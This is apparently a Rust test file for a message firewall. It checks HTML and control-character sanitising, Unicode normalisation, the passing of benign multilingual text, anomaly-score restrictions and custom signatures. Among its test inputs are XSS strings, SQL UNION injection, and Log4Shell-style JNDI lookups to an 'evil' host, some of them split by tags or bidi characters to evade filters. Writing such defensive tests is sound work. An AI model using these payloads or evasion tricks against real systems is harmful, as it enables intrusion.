//! What the last stages find in payloads, take out of them, and make of it all.

use super::*;

pub(super) const TYPES: &str = r#"
[message.post]
roles = ["member"]
route = "room"
html = ["text", "notes[]:strip", "raw:escape"]
path_fields = ["file", "files[].name"]
[message.strict]
roles = ["member"]
route = "room"
controls = "refuse"
signatures = "refuse"
[message.free]
roles = ["member"]
route = "room"
controls = "keep"
signatures = "off"
[message.composed]
roles = ["member"]
route = "room"
nfc = true
[message.rich]
roles = ["member"]
route = "room"
html = ["text"]
nfc = true
controls = "refuse"
"#;

fn message(kind: &str, payload: &str) -> String {
    format!(r#"{{"type":"{kind}","to":{{"room":"r"}},"csrfToken":"TOKEN","payload":{payload}}}"#)
}

/// The payload as it goes on, or the refusal.
fn through(bench: &mut Bench, kind: &str, payload: &str) -> Result<String, Reject> {
    let text = message(kind, payload).replace("TOKEN", &bench.token);
    // so that only what is asked about refuses
    bench.wait(Duration::from_secs(3_600));
    match bench.check(Frame::Text(&text)).verdict {
        Verdict::Pass(passed) => Ok(passed.message.payload.map(|raw| raw.get().to_owned()).unwrap_or_default()),
        Verdict::Reject { reject, .. } => Err(reject),
        Verdict::Park(key) => panic!("{key:?}"),
        Verdict::Shed { id } => panic!("{id:?}"),
    }
}

#[test]
fn what_is_taken_out_is_gone_and_counted_and_the_rest_stays() {
    let mut bench = Bench::with(TYPES);
    for (kind, payload, after) in [
        ("post", r#"{"text":"<b onclick=x>hi</b><script>x</script>"}"#, r#"{"text":"<b>hi</b>"}"#),
        ("post", r#"{"text":"<img src=x onerror=alert(1)>hi"}"#, r#"{"text":"hi"}"#),
        ("post", r#"{"text":"\u003cscript\u003ex\u003c/script\u003ehi"}"#, r#"{"text":"hi"}"#),
        ("post", r#"{"notes":["<b>a</b>","b"], "n":1}"#, r#"{"notes":["a","b"], "n":1}"#),
        ("post", r#"{"raw":"<b>"}"#, r#"{"raw":"&lt;b&gt;"}"#),
        ("post", r#"{"text":"<scr\u0000ipt>x</script>"}"#, r#"{"text":""}"#),
        ("post", r#"{"text":"a&#x202e;b"}"#, r#"{"text":"ab"}"#),
        ("post", r#"{"text":"<b>&#8238x</b>"}"#, r#"{"text":"<b>x</b>"}"#),
        ("post", r#"{"raw":"&#x20&#16;2e;x"}"#, r#"{"raw":"x"}"#),
        ("rich", r#"{"text":"<i>e&#x301;</i>"}"#, "{\"text\":\"<i>é</i>\"}"),
        ("chat", r#"{"text":"a\u0000b\u202ec"}"#, r#"{"text":"abc"}"#),
        ("chat", r#"{"deep":[[{"x":"a\u0007"}]]}"#, r#"{"deep":[[{"x":"a"}]]}"#),
        ("composed", "{\"text\":\"e\u{301}\"}", "{\"text\":\"é\"}"),
    ] {
        let once = through(&mut bench, kind, payload).unwrap_or_else(|e| panic!("{payload}: {e:?}"));
        assert_eq!(once, after, "{payload}");
        assert_eq!(through(&mut bench, kind, &once).unwrap(), once, "cleaned twice");
    }
    let text = message("post", r#"{"text":"<i><u>a","x":"\u0001"}"#).replace("TOKEN", &bench.token);
    let Verdict::Pass(passed) = bench.check(Frame::Text(&text)).verdict else { panic!() };
    assert_eq!((passed.cleaned.html, passed.cleaned.controls), (1, 1));
}

#[test]
fn an_attack_whose_parts_stand_around_what_is_taken_out_is_refused() {
    let mut bench = Bench::with(TYPES);
    for (kind, payload) in [
        ("post", r#"{"text":"${jn<x></x>di:ldap://evil/a}"}"#),
        ("post", r#"{"text":"${j<!-- -->ndi<x y=\"z\">:ldap://evil/a}"}"#),
        ("post", r#"{"notes":["${jn<b>d</b>i:ldap://evil/a}"]}"#),
        ("chat", r#"{"text":"${jn\u202edi:ldap://evil/a}"}"#),
    ] {
        let reject = through(&mut bench, kind, payload).expect_err(payload);
        assert_eq!(reject.code, Code::Forbidden, "{payload}");
    }
}

#[test]
fn benign_payloads_pass_byte_for_byte() {
    let mut bench = Bench::with(TYPES);
    for text in BENIGN {
        let payload = serde_json::json!({ "text": text }).to_string();
        // in a field that holds HTML this is a tag
        let html = !text.contains("<stdio");
        for kind in ["chat", "strict", "free"].into_iter().chain(html.then_some("post")) {
            let passed = through(&mut bench, kind, &payload).unwrap_or_else(|e| panic!("{kind} {text}: {e:?}"));
            assert_eq!(passed, payload, "{kind}");
        }
    }
}

const BENIGN: &[&str] = &[
    "",
    "hello",
    "Grüße aus Köln",
    "Łódź, Kraków, Gdańsk",
    "Đorđe Šešelj",
    "Ærøskøbing",
    "São João",
    "Núñez",
    "Ñandú",
    "Αθήνα",
    "Привет, мир",
    "Київ",
    "שלום עולם",
    "مرحبا بالعالم",
    "سلام دنیا",
    "नमस्ते दुनिया",
    "வணக்கம்",
    "ສະບາຍດີ",
    "สวัสดีครับ",
    "こんにちは",
    "世界你好",
    "안녕하세요",
    "გამარჯობა",
    "Բարեւ",
    "ሰላም",
    "O'Brien",
    "D'Angelo & Sons",
    "Jean-Luc",
    "Mary Ann O'Neil-Smith III",
    "😀",
    "👩‍👩‍👧‍👦 family",
    "🏳️‍🌈",
    "🇺🇦🇯🇵",
    "❤️‍🔥 ok",
    "👍🏽",
    "a < b",
    "x > y && y > z",
    "1<2<3",
    "if (a<1) b();",
    "i <3 u",
    "x <= y",
    "f(x) = {x : x < 5}",
    "\\frac{1}{2} < \\pi",
    "∀x ∈ ℝ: x² ≥ 0",
    "50 % off",
    "100%",
    "5 & 6",
    "R & D",
    "fn main() { println!(\"hi\"); }",
    "let x = a || b;",
    "for (i = 0; i < n; i++) sum += a[i];",
    "SELECT name FROM users WHERE id = 3",
    "git commit -m \"it's done\"",
    "npm install && npm test",
    "def f(x): return x if x < 3 else 4",
    "#include <stdio.h>",
    "vec![1, 2, 3].iter().map(|x| x * 2)",
    "https://example.com/a?b=c&d=e#f",
    "http://localhost:8080/x",
    "mailto:a@b.example",
    "see ../readme.md",
    "C# and C++",
    "what?!",
    "(a) and (b)",
    "[link](https://example.com)",
    "**bold** _it_ `code`",
    "- item\n- item\n\n1. one",
    "tab\tseparated\tvalues",
    "line\r\nbreaks",
    "\"quoted\" 'single'",
    "a\\b",
    "50€ – £20 … “x”",
    "@someone #tag",
    "{{ name }}",
    "${HOME}",
    "$5.00",
    "user@example.com",
    "+49 30 123456",
    "2026-11-23T04:00:00Z",
    "::1",
    "192.0.2.1",
    "0x1F",
    "1e-9",
    "true",
    "null",
    "undefined",
    "well -- maybe; later",
    "drop me a line; insert coin",
    "the union will select a speaker",
    "I like JavaScript: a lot",
    "order by name",
    "eval the results",
    "he said \"yes\" or \"no\"",
];

#[test]
fn evidence_adds_up_to_a_restriction_that_ends_when_it_says() {
    let rules = format!("{TYPES}\n[anomaly]\nhalf_life = \"10s\"\nrestrict = 8\ndisconnect = 100");
    let mut bench = Bench::with(&rules);
    let attack = message("chat", r#"{"text":"1 UNION SELECT password, <script>x</script>"}"#);
    assert!(bench.text(&attack).is_ok(), "six points are not eight");
    assert!(bench.text(&attack).is_ok(), "this one goes through, and is the one too many");
    let chat = message("chat", r#"{"text":"hi"}"#);
    let refused = bench.text(&chat).unwrap_err();
    assert_eq!((refused.code, refused.close), (Code::Restricted, None));
    assert!(refused.detail.contains("sql.union 3"), "{}", refused.detail);
    assert!(bench.text(r#"{"type":"health-check"}"#).is_ok());
    let wait = refused.retry_after.unwrap();
    bench.wait(wait - Duration::from_millis(2));
    assert_eq!(bench.code(&chat), Code::Restricted, "being refused adds nothing and forgives nothing");
    bench.wait(Duration::from_millis(2));
    assert!(bench.text(&chat).is_ok());
}

#[test]
fn who_goes_on_is_disconnected_and_in_a_dry_run_is_not() {
    let rules = format!("{TYPES}\n[anomaly]\nhalf_life = \"1h\"\nrestrict = 5\ndisconnect = 8");
    let attack = message("chat", r#"{"text":"1 UNION SELECT password, <script>x</script>"}"#);
    let mut bench = Bench::with(&rules);
    assert!(bench.text(&attack).is_ok());
    let refused = bench.text(&attack).unwrap_err();
    assert_eq!((refused.code, refused.close), (Code::Restricted, None), "restricted first");
    // what no restriction stops still adds up
    let junk = "{";
    let ended = (0..20).find_map(|_| bench.text(junk).err().filter(|reject| reject.close.is_some())).unwrap();
    assert_eq!((ended.code, ended.close), (Code::Restricted, Some(Close::Forbidden)));
    let mut dry = Bench::with(&format!("{rules}\n[pipeline]\ndry_run = [\"score\"]"));
    assert!((0..10).all(|_| dry.text(&attack).is_ok()));
}

#[test]
fn a_session_without_evidence_carries_no_score() {
    let mut bench = Bench::with(TYPES);
    assert!(bench.text(r#"{"type":"join","to":{"room":"r"},"csrfToken":"TOKEN"}"#).is_ok());
    assert!(bench.state.score.is_none());
}

#[test]
fn signatures_of_the_operators_own_join_the_products() {
    let policy = compile("[signatures]\nfile = \"signatures.toml\"", 1, Arc::new(Buckets::default())).unwrap();
    assert!(policy.signatures() > 20);
    let mut bench = Bench::with("[signatures]\nbuiltin = false\nfile = \"signatures.toml\"");
    assert_eq!(bench.policy.signatures(), 2);
    assert_eq!(through(&mut bench, "chat", r#"{"text":"project orpheus"}"#).unwrap_err().code, Code::Forbidden);
    assert!(through(&mut bench, "chat", r#"{"other":"project orpheus"}"#).is_ok(), "only in its field");
    assert!(through(&mut bench, "chat", r#"{"text":"1 UNION SELECT 2"}"#).is_ok());
    let broken = compile("[signatures]\nfile = \"broken.json\"", 1, Arc::new(Buckets::default())).unwrap_err();
    assert!(broken.iter().any(|(key, _)| key == "signatures.file"), "{broken:?}");
}
